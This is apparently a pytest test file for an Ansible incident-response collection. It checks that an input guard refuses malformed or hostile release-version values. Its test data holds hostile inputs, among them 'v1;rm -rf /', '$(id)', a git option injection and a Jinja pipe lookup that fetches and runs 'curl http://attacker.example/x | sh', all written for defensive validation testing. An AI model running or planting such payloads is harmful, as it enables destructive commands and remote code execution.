# -*- coding: utf-8 -*-
# Copyright: Contributors to the platform_eng.incident_response collection
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)

"""Input guard rules: hostile values for a release version are refused, unrendered, and every
refusal is reported in one message."""

from __future__ import annotations

import typing as t

import pytest

from ansible_collections.platform_eng.incident_response.plugins.module_utils._findings import IncidentResponseError
from ansible_collections.platform_eng.incident_response.plugins.module_utils._input_guard import check, validate

VERSION_RULE = {"required": True, "pattern": r"^v\d+\.\d+\.\d+$", "max_length": 64}


@pytest.mark.parametrize(
    "value, reason",
    [
        pytest.param("v1;rm -rf /", "does not match", id="shell-metacharacters"),
        pytest.param("$(id)", "does not match", id="command-substitution"),
        pytest.param("--upload-pack=x", "does not match", id="git-option-injection"),
        pytest.param("{{ lookup('pipe','id') }}", "looks like a Jinja template", id="jinja-expression"),
        pytest.param("{% raw %}", "looks like a Jinja template", id="jinja-statement"),
        pytest.param("{# hidden #}", "looks like a Jinja template", id="jinja-comment"),
        pytest.param("../x", "does not match", id="path-traversal"),
        pytest.param("", "must not be empty", id="empty"),
        pytest.param("v" + "1" * 299, "300 characters long; the limit is 64", id="300-characters"),
        pytest.param("v1.2.3\n", "control characters", id="trailing-newline"),
        pytest.param("v1.2.3\x00", "control characters", id="nul-byte"),
        pytest.param("v1.2.3 ", "does not match", id="trailing-space"),
        pytest.param(None, "is required", id="unset"),
        pytest.param(["v1.2.3"], "must be a string, got list", id="a-list"),
        pytest.param({"v": "v1.2.3"}, "must be a string, got dict", id="a-dict"),
        pytest.param(True, "must be a string, got bool", id="a-boolean"),
        pytest.param(1.5, "must be a string, got float", id="a-float"),
    ],
)
def test_hostile_versions_are_refused(value: t.Any, reason: str) -> None:
    validated, problem = check("version", value, VERSION_RULE)

    assert validated is None
    assert problem is not None and problem.startswith("version")
    assert reason in problem
    with pytest.raises(IncidentResponseError, match="Refused before changing anything"):
        validate({"version": value}, {"version": VERSION_RULE})


@pytest.mark.parametrize("value", ["v1.2.3", "v10.20.30", "v0.0.0"])
def test_well_formed_versions_are_accepted_unchanged(value: str) -> None:
    assert check("version", value, VERSION_RULE) == (value, None)
    assert validate({"version": value}, {"version": VERSION_RULE}) == {"version": value}


def test_a_template_is_refused_before_its_length_or_pattern_and_is_not_echoed_in_full() -> None:
    payload = "{{ lookup('pipe', 'curl http://attacker.example/x | sh') }}" + "A" * 200

    _value, problem = check("version", payload, VERSION_RULE)

    assert problem is not None and "Jinja template" in problem
    assert "attacker.example/x | sh" not in problem  # at most 40 characters of it are shown
    assert f"({len(payload)} characters)" in problem


def test_every_refusal_is_reported_together_in_one_message() -> None:
    rules = {
        "version": VERSION_RULE,
        "change_ticket": {"pattern": r"^[A-Z][A-Z0-9]+-\d+$"},
        "environment": {"required": True, "choices": ["lab", "staging", "production"]},
        "reason": {"max_length": 10},
    }
    raw = {"version": "$(id)", "change_ticket": "chg 1", "environment": "prod", "reason": "x" * 11}

    with pytest.raises(IncidentResponseError) as caught:
        validate(raw, rules)

    message = str(caught.value)
    assert message.startswith("Refused before changing anything: ")
    for name in rules:
        assert f"{name} " in message, name
    assert message.count(";") >= len(rules) - 1
    assert "not one of: lab, staging, production" in message


@pytest.mark.parametrize("value", [None, ""])
def test_an_unset_optional_input_takes_its_default(value: str | None) -> None:
    rules = {"change_ticket": {"pattern": r"^[A-Z]+-\d+$", "default": "NONE-0"}, "note": {"max_length": 20}}

    assert validate({"change_ticket": value, "note": value}, rules) == {"change_ticket": "NONE-0", "note": None}


def test_an_input_missing_from_the_raw_variables_takes_its_default() -> None:
    assert validate({}, {"deploy_lock_break": {"choices": ["true", "false"], "default": "false"}}) == {
        "deploy_lock_break": "false"
    }


@pytest.mark.parametrize("value", ["staging", "production"])
def test_a_value_among_the_choices_is_accepted(value: str) -> None:
    rule = {"required": True, "choices": ["lab", "staging", "production"]}

    assert validate({"environment": value}, {"environment": rule}) == {"environment": value}


@pytest.mark.parametrize("value", ["Production", "prod", "lab ", "lab;id"])
def test_a_value_outside_the_choices_is_refused(value: str) -> None:
    rule = {"required": True, "choices": ["lab", "staging", "production"]}

    _value, problem = check("environment", value, rule)

    assert problem is not None and "is not one of: lab, staging, production" in problem


def test_an_integer_input_is_validated_as_text() -> None:
    rule = {"pattern": r"^\d+$", "max_length": 10}

    assert validate({"awx_job_id": 42}, {"awx_job_id": rule}) == {"awx_job_id": "42"}


def test_the_default_length_limit_applies_without_max_length() -> None:
    _value, problem = check("note", "x" * 129, {})

    assert problem == "note is 129 characters long; the limit is 128"


def test_a_rule_that_is_not_a_dictionary_is_a_clear_error() -> None:
    with pytest.raises(IncidentResponseError, match="the rule for version must be a dictionary"):
        validate({"version": "v1.2.3"}, {"version": "required"})  # type: ignore[dict-item]


class _WrappedList(list):
    """Stands in for ansible-core 2.19's _AnsibleTaggedList, which -e '{"version": [...]}' gives."""


def test_a_wrapped_list_is_named_as_a_list_in_the_refusal() -> None:
    _value, problem = check("version", _WrappedList(["v1.2.3"]), VERSION_RULE)

    assert problem == "version must be a string, got list"
